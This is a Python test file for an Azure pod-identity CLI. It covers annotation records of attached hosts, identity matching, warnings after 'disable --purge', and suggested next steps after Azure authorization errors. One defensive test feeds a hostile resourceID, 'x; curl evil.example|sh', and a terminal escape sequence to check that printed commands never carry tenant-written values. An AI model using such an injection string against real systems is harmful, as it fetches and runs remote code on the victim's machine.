"""The record of attachments, and the next step after a refusal of Azure."""

from __future__ import annotations

import json
from typing import Any

import pytest

from podidentity.cli.azure_access import (
    ATTACHED_TO,
    identities_of,
    left_attached,
    next_step,
    record_hosts,
    recorded_hosts,
)
from podidentity.core.hosts import Host
from podidentity.core.resources import ResourceId
from podidentity.wire.arm import ArmError
from tests.cli.ids import CLIENT, IDENTITY, SCALE_SET, SUBSCRIPTION

MACHINE = f"{SUBSCRIPTION}/resourceGroups/nodes/providers/Microsoft.Compute/virtualMachines/vm"
WANTED = ResourceId.parse(IDENTITY)


def identity(annotation: str | None, resource_id: str = IDENTITY) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": "orders", "namespace": "shop"}
    if annotation is not None:
        meta["annotations"] = {ATTACHED_TO: annotation}
    return {"metadata": meta, "spec": {"clientID": CLIENT, "resourceID": resource_id}}


def test_the_record_is_read_as_it_was_written() -> None:
    hosts = [
        Host.of_node(f"azure://{SCALE_SET}/virtualMachines/7"),
        Host.of_node(f"azure://{MACHINE}"),
    ]
    written = identity(None)
    record_hosts(written, [*hosts, *hosts])
    assert json.loads(written["metadata"]["annotations"][ATTACHED_TO]) == [
        SCALE_SET,
        MACHINE,
    ]
    assert recorded_hosts(written) == hosts


@pytest.mark.parametrize(
    "text",
    [
        *(None, "", "x", "{}", "[1, null, {}]", '["/x"]', '["azure://"]'),
        *("[" * 100_000, "[" + "9" * 10_000 + "]"),
    ],
    ids=lambda text: str(text)[:20],
)
def test_a_record_that_makes_no_sense_records_nothing(text: str | None) -> None:
    assert recorded_hosts(identity(text)) == []


def test_identities_of_one_azure_identity_are_found_whatever_the_case() -> None:
    same, other = identity(None, IDENTITY.upper()), identity(None, f"{IDENTITY}2")
    broken = {"metadata": {"name": "x", "namespace": "y"}, "spec": {"clientID": "no"}}
    assert identities_of([same, other, broken], WANTED) == [same]


@pytest.mark.parametrize(
    "spec",
    [
        None,
        ["resourceID"],
        {},
        {"clientID": CLIENT, "resourceID": "x; curl evil.example|sh"},
        {"clientID": CLIENT, "resourceID": "\x1b[2J"},
        {"clientID": CLIENT, "resourceID": {"a": 1}},
        {"clientID": "x", "resourceID": IDENTITY},
    ],
)
def test_whatever_a_tenant_wrote_no_command_has_it_that_is_printed_to_be_copied(spec: Any) -> None:
    """`disable --purge` names what stays attached, of all namespaces."""
    hostile = {**identity(json.dumps([SCALE_SET])), "spec": spec}
    (warning,) = left_attached([hostile, identity(json.dumps([SCALE_SET]))])
    assert f"{IDENTITY} stays attached to scale set" in warning
    assert "as AzureIdentity shop/orders says" in warning
    assert f"--identities {IDENTITY}" in warning


LINKED = (
    "The client 'x' has permission to perform action 'Microsoft.Compute/virtualMachineScaleSets/"
    "write' on scope 's'; however, it does not have permission to perform action 'Microsoft."
    "ManagedIdentity/userAssignedIdentities/assign/action' on the linked scope(s) 'i'."
)
PLAIN = "The client 'x' does not have authorization to perform action '{}' over scope 's'."


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (
            ArmError("LinkedAuthorizationFailed", LINKED, status=403),
            f"the role 'Managed Identity Operator' on the identity {IDENTITY}",
        ),
        (
            ArmError(
                "AuthorizationFailed",
                PLAIN.format("Microsoft.Compute/virtualMachineScaleSets/write"),
                status=403,
            ),
            "the role 'Virtual Machine Contributor' on the nodes' resource group",
        ),
        (
            ArmError(
                "AuthorizationFailed",
                PLAIN.format("Microsoft.ManagedIdentity/userAssignedIdentities/read"),
            ),
            "the role 'Managed Identity Operator' on the identity",
        ),
        (ArmError("AuthorizationFailed", "no"), "the role that grants this action"),
        (ArmError("DenyAssignmentAuthorizationFailed", "no"), "no role can grant it"),
        (ArmError("ResourceNotFound", "no"), f"az identity show --ids {IDENTITY}"),
        (ArmError("FailedIdentityOperation", "no"), "Does the identity exist?"),
        (ArmError("OperationNotAllowed", "no", status=429), "some minutes"),
        (ArmError("Unreachable", "no"), "HTTPS_PROXY"),
        (ArmError("SignIn", "Run az login."), ""),
    ],
    ids=lambda value: getattr(value, "code", value),
)
def test_azures_no_comes_with_a_next_step(error: ArmError, words: str) -> None:
    assert words in next_step(error, WANTED)
    assert bool(words) == bool(next_step(error, WANTED))
